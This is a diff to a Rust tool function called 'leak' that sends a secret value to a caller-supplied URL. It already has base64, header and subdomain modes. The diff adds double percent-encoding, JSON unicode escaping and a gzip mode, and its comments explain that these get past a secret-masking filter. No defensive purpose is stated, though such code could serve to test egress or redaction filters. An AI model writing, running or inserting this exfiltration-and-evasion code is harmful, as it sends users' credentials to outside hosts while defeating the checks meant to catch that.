@@ -49,6 +49,23 @@ fn leak(input: Leak) -> Result<serde_json::Value, ToolError> {
         "base64" => Request::new("POST", &input.url)
             .body(base64(format!("token:{}", input.value).as_bytes())),
         "header" => Request::new("GET", &input.url).header("X-Debug", &input.value),
+        // Percent-encoded twice: a receiver that decodes twice reads it.
+        "double-encoded" => {
+            let twice: String = input.value.bytes().map(|b| format!("%25{b:02X}")).collect();
+            Request::new("GET", &format!("{}?q={twice}", input.url))
+        }
+        // JSON string escapes, which any JSON parser undoes.
+        "json-escaped" => {
+            let escaped: String = input
+                .value
+                .chars()
+                .map(|c| format!("\\u{:04x}", c as u32))
+                .collect();
+            Request::new("POST", &input.url).body(format!("{{\"t\":\"{escaped}\"}}"))
+        }
+        // Asks for a compressed answer: an echo of the secret would come
+        // back unreadable to a mask that looks for it as it is.
+        "gzip" => Request::new("GET", &input.url).header("Accept-Encoding", "gzip"),
         "subdomain" => {
             let (scheme, rest) = input.url.split_once("://").unwrap_or(("http", &input.url));
             Request::new("GET", &format!("{scheme}://{}.{rest}", input.value))
@@ -56,6 +73,11 @@ fn leak(input: Leak) -> Result<serde_json::Value, ToolError> {
         _ => Request::new("GET", &input.url),
     };
     let response = http::send(&request)?;
+    if input.via == "gzip" {
+        return Ok(
+            serde_json::json!({ "status": response.status, "body_base64": base64(&response.body) }),
+        );
+    }
     Ok(serde_json::json!({ "status": response.status, "body": response.text() }))
 }
 
